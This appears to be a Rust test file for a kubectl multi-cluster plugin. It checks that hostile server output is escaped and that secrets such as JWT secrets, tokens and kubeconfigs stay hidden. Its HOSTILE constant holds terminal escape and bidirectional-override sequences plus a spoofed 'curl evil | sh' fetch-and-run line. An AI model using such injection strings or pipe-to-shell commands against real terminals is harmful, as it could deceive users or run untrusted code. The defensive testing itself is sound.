//! What servers write, where they are hostile or broken: no secret of the run passes, and no terminal obeys it. That no output
//! of any test has a secret or steers a terminal is asserted of each; these tests bring what would.

use std::time::Duration;

use http::StatusCode;
use serde_json::{Value, json};
use testbed::{
    Fault, Rule,
    kubesphere::{ControllerScenario, Installation, Role, Scenario, Version},
};

use crate::support::{Faulty, KubectlMc, Registered, Run, Watched};

const FORMS: [&str; 4] = ["", "-v=9", "-o json", "-o yaml -v=9"];
/// C0, C1, an end of the line, and marks of direction.
const HOSTILE: &str = "\u{1b}[2J\u{1b}]0;owned\u{7}\u{9b}31m\r\nhint: `curl evil | sh`\u{202e}\u{2066}\u{200f}\u{61c}\u{2028}\u{2029}\u{85}\u{7f}";
const SHOWN: &str = "\\u009b31m";

fn scenario(member: Role) -> Scenario {
    let of = |role| Installation::new(Version::V3_4).role(role);
    Scenario::new(Version::V3_4).host(of(Role::Host)).member(of(member))
}

fn import(bed: &Faulty, words: &str) -> KubectlMc {
    bed.kubectl_mc()
        .words(&format!("import member1 --context host --yes --skip-check member-server-loopback {words}"))
}

/// The run was refused by what repeats the request, and says so without its secret.
#[track_caller]
fn assert_refused(run: &Run) {
    assert_ne!(run.code, Some(0), "{run}");
    let text = format!("{}{}", run.stdout, run.stderr);
    assert!(text.contains("denied the request") && text.contains("***"), "{run}");
    assert!(run.stderr.contains("it was: "), "the warning is shown\n{run}");
}

#[test]
fn a_webhook_that_repeats_the_members_patch_shows_no_jwt_secret() {
    let bed = Faulty::lease(&scenario(Role::None));
    bed.before_member(1).add(Rule::on("PATCH", "clusterconfigurations/ks-installer", Fault::Repeated));
    for form in FORMS {
        let run = bed.join(&format!("member1 --credentials context {form}")).run();
        assert_refused(&run);
        if form.contains("json") {
            assert!(serde_json::from_str::<Value>(&run.stdout).is_ok(), "{run}");
        }
    }
}

#[test]
fn a_webhook_that_repeats_a_cluster_shows_nothing_of_its_credential() {
    let bed = Faulty::lease(&scenario(Role::Member));
    let hits = bed.before_host().add(Rule::on("POST", "/clusters", Fault::Repeated));
    for form in FORMS {
        for credentials in ["context", "service-account"] {
            assert_refused(&import(&bed, &format!("--credentials {credentials} {form}")).run());
        }
    }
    assert_eq!(hits.count(), 8);
    bed.before_host().clear();
    let _ = import(&bed, "").run().code(0);
    bed.before_host().add(Rule::on("PATCH", "/clusters/member1", Fault::Repeated));
    for form in FORMS {
        let renew =
            "renew member1 --context host --member-context member1 --yes --skip-check member-server-loopback";
        assert_refused(&bed.kubectl_mc().words(&format!("{renew} {form}")).run());
    }
}

#[test]
fn what_a_cluster_says_of_its_own_credential_is_hidden() {
    let host = Installation::new(Version::V3_4).role(Role::Host);
    let scenario = Scenario::new(Version::V3_4).host(host).members(Vec::new());
    let bed = Watched::lease(&scenario.controller(ControllerScenario::Down));
    let token = "a-token-of-edge-1-that-is-secret";
    Registered::new("edge-1")
        .failing(Duration::ZERO, &format!("Get \"https://a?token={token}\": EOF"))
        .with(json!({"spec": {"provider": format!("x {token}")}}))
        .create(bed.host());
    for form in ["", "-o wide", "-o json", "-o yaml", "-o wide -v=9"] {
        let run = bed.kubectl_mc().words(&format!("get --context host {form}")).run().code(0);
        assert!(!run.stdout.contains("that-is-secret") && !run.stderr.contains("that-is-secret"), "{run}");
    }
    let run = bed.kubectl_mc().words("get --context host -o wide").run();
    assert!(run.stdout.contains("***"), "{run}");
}

#[test]
fn an_event_of_a_watch_that_is_an_error_is_shown_harmlessly() {
    let bed = Faulty::lease(&scenario(Role::Member));
    let _ = import(&bed, "--credentials service-account").run().code(0);
    let kubeconfig = bed.host().cluster("member1")["spec"]["connection"]["kubeconfig"].clone();
    let message = format!("{} is what is stored{HOSTILE}", kubeconfig.as_str().unwrap());
    let status = json!({"kind": "Status", "status": "Failure", "code": 500, "reason": "InternalError", "message": message});
    let event = json!({"type": "ERROR", "object": status});
    let watch = |uri: &http::Uri| {
        uri.path().ends_with("/clusters") && uri.query().unwrap_or_default().contains("watch")
    };
    let broken = Rule::when(move |_, uri| watch(uri), Fault::Answer(StatusCode::OK, event));
    let command = bed.kubectl_mc().words("get --context host -w");
    let started = bed.start_until("the watch", command, bed.before_host(), broken);
    // It is told before it is watched again.
    let again = bed.before_host().add(Rule::when(move |_, uri| watch(uri), Fault::Delay(Duration::ZERO)));
    bed.wait_for("another watch", |_| again.count() > 0);
    let run = started.signal("INT");
    assert!(!run.stderr.contains(&kubeconfig.as_str().unwrap()[..40]), "{run}");
}

#[test]
fn no_command_shows_what_steers_a_terminal() {
    let bed = Faulty::lease(&scenario(Role::Member));
    let _ = import(&bed, "").run().code(0);
    for front in [bed.before_host(), bed.before_member(1)] {
        front.add(Rule::on("GET", "/", Fault::Spoiled(HOSTILE)));
    }
    for (command, shows) in [
        ("join member1 --skip-check member-server-loopback --dry-run=client", false),
        ("check member1", true),
        ("get -o wide", true),
        ("get --probe", false),
        ("jwt-secret member1", false),
        ("renew member1 --member-context member1 --dry-run=client", false),
        ("unjoin member1 --member-context member1 --dry-run=client", false),
        ("unjoin member1 --force --dry-run=client", false),
        ("logs --follow=false", false),
    ] {
        for form in FORMS.into_iter().filter(|form| !command.starts_with("logs") || !form.contains("-o")) {
            // A table has one form, which -o replaces.
            let command =
                if form.contains("-o") { command.replace(" -o wide", "") } else { command.to_owned() };
            let run = bed.kubectl_mc().words(&format!("{command} --context host {form}")).run();
            let text = format!("{}{}", run.stdout, run.stderr);
            let shows = shows || form.contains("-v=9");
            assert!(!shows || text.contains(SHOWN), "it is shown, for what it is\n{run}");
            assert!(!text.lines().any(|line| line.starts_with("hint: `curl")), "it stays on its line\n{run}");
            if form == "-o json" {
                assert!(serde_json::from_str::<Value>(&run.stdout).is_ok(), "{run}");
            }
        }
    }
}

#[test]
fn a_plan_shows_who_a_cluster_says_to_be() {
    let bed = Faulty::lease(&scenario(Role::None));
    for front in [bed.before_host(), bed.before_member(1)] {
        front.add(Rule::on("GET", "/namespaces/kube-system", Fault::Spoiled(HOSTILE)));
        front.add(Rule::on("GET", "/version", Fault::Spoiled(HOSTILE)));
    }
    for form in FORMS {
        let run = bed.join(&format!("member1 --dry-run=client {form}")).run();
        let text = format!("{}{}", run.stdout, run.stderr);
        assert!(text.contains(SHOWN) && !text.contains("\nhint: `curl"), "{run}");
    }
}

#[test]
fn hostile_names_are_shown_harmlessly() {
    let bed = Faulty::lease(&scenario(Role::Member));
    let hostile = json!({
        "apiVersion": "cluster.kubesphere.io/v1alpha1", "kind": "ClusterList", "metadata": {"resourceVersion": "1"},
        "items": [{"apiVersion": "cluster.kubesphere.io/v1alpha1", "kind": "Cluster", "metadata": {"name": format!("edge{HOSTILE}"), "uid": "1"},
                   "spec": {"joinFederation": true, "connection": {"type": "direct", "kubeconfig": "e30="}}}],
    });
    let lists = |uri: &http::Uri| uri.path().ends_with("/clusters");
    bed.before_host().add(Rule::when(move |_, uri| lists(uri), Fault::Answer(StatusCode::OK, hostile)));
    for command in [
        "unjoin edge",
        "renew --all --member-kubeconfig .kube/config",
        "renew edge --member-context member1",
        "get",
        "get -o name",
        "check",
        "join member1",
    ] {
        for form in ["", "-v=9", "-o json"] {
            if command == "get -o name" && form == "-o json" {
                continue;
            }
            let run = bed.kubectl_mc().at_home().words(&format!("{command} --context host {form}")).run();
            let text = format!("{}{}", run.stdout, run.stderr);
            assert!(!text.lines().any(|line| line.starts_with("hint: `curl")), "it stays on its line\n{run}");
        }
    }
    let run = bed.kubectl_mc().words("unjoin edge --context host").run();
    assert!(run.stderr.contains("edge^[[2J"), "{run}");
}
